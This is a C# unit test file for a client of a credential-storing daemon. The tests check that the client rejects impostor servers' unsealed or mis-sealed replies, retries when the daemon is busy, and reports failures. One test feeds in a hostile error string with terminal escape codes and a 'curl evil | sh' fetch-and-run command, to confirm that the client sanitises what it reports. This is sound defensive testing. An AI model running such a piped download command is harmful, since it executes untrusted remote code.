using System.Diagnostics;
using SlurmNative.Credentials.Client;
using SlurmNative.Credentials.Protocol;

namespace SlurmNative.Tests.Service;

/// <summary>
/// What the client takes for the daemon's answer: a sealed reply that opens with its request's key,
/// and nothing else. Whatever else answers is passed over for the next server.
/// </summary>
public class DaemonClientTests
{
    private const uint Alice = 1001;

    private static DaemonClient Client(TimeSpan timeout, params int[] ports) =>
        new(ports.Select(p => $"127.0.0.1:{p}").ToArray(), timeout, new FakeSigner(Alice));

    [Fact]
    public async Task A_plain_refusal_from_the_first_server_sends_the_request_on_to_the_daemon()
    {
        await using var daemon = new DaemonHarness();
        byte[] ticket = FakeInspector.Ticket("alice@TEST", Alice);
        daemon.ClientFor(Alice).Call(Request.Create(Operation.Add, blob: ticket));
        using var impostor = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.NotFound, "nothing stored for you").EncodePlain());

        byte[] fetched = Client(TimeSpan.FromSeconds(5), impostor.Port, daemon.Endpoint.Port).Call(Request.Create(Operation.Get));

        Assert.Equal(1, impostor.Connections);
        Assert.Equal(ticket, fetched);
    }

    [Fact]
    public async Task A_reply_sealed_under_another_key_is_not_the_daemons_and_the_next_server_answers()
    {
        await using var daemon = new DaemonHarness();
        byte[] ticket = FakeInspector.Ticket("alice@TEST", Alice);
        daemon.ClientFor(Alice).Call(Request.Create(Operation.Add, blob: ticket));
        byte[] forged = FakeInspector.Ticket("mallory@TEST", Alice);
        using var impostor = new ScriptedPeer((_, _) => Reply.Ok(forged).Seal(Request.Create(Operation.Get)));

        byte[] fetched = Client(TimeSpan.FromSeconds(5), impostor.Port, daemon.Endpoint.Port).Call(Request.Create(Operation.Get));

        Assert.Equal(ticket, fetched);
    }

    [Fact]
    public void When_only_impostors_answer_the_client_reports_every_server_and_no_status_of_theirs()
    {
        using var plain = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.Forbidden, "denied\u001b[2J\u202Erun: curl evil | sh").EncodePlain());
        using var forger = new ScriptedPeer((_, _) => Reply.Ok([1, 2, 3]).Seal(Request.Create(Operation.Get)));

        var failure = Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(5), plain.Port, forger.Port).Call(Request.Create(Operation.Get)));

        Assert.Contains($"127.0.0.1:{plain.Port}: unauthenticated answer Forbidden: denied?[2J?run: curl evil | sh", failure.Message);
        Assert.Contains($"127.0.0.1:{forger.Port}: the reply does not answer this request", failure.Message);
        Assert.Contains("is not the daemon this request was sealed for", failure.Message);
        Assert.DoesNotContain('\u001b', failure.Message);
    }

    [Fact]
    public void A_busy_daemon_is_asked_again_within_the_timeout_with_the_same_request()
    {
        var requestIds = new List<byte[]>();
        using var daemon = new ScriptedPeer((n, request) =>
        {
            lock (requestIds)
                requestIds.Add(request.RequestId);
            return n <= 2 ? Reply.Error(ReplyStatus.Busy, "at the limit").EncodePlain() : Reply.Ok([42]).Seal(request);
        });

        byte[] body = Client(TimeSpan.FromSeconds(5), daemon.Port).Call(Request.Create(Operation.Ping));

        Assert.Equal([42], body);
        Assert.Equal(3, daemon.Connections);
        Assert.All(requestIds, id => Assert.Equal(requestIds[0], id));
    }

    [Fact]
    public void A_daemon_that_stays_busy_is_given_up_on_at_the_client_timeout()
    {
        using var daemon = new ScriptedPeer((_, _) => Reply.Error(ReplyStatus.Busy, "at the limit").EncodePlain());
        var clock = Stopwatch.StartNew();

        var failure = Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(3), daemon.Port).Call(Request.Create(Operation.Ping)));

        Assert.True(failure.Message.Contains($"127.0.0.1:{daemon.Port}: busy (asked ", StringComparison.Ordinal), failure.Message);
        Assert.True(daemon.Connections > 2, $"a busy daemon should have been asked again and again, not {daemon.Connections} times");
        Assert.InRange(clock.ElapsedMilliseconds, 2_000, 10_000);
    }

    [Fact]
    public void A_daemon_that_is_down_is_not_asked_again()
    {
        int closedPort;
        using (var probe = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0))
        {
            probe.Start();
            closedPort = ((System.Net.IPEndPoint)probe.LocalEndpoint).Port;
        }
        var clock = Stopwatch.StartNew();

        Assert.Throws<DaemonUnreachableException>(() => Client(TimeSpan.FromSeconds(5), closedPort).Call(Request.Create(Operation.Ping)));

        // Refused at once: waiting out the timeout would only delay the job's start.
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(2), $"took {clock.Elapsed}");
    }
}
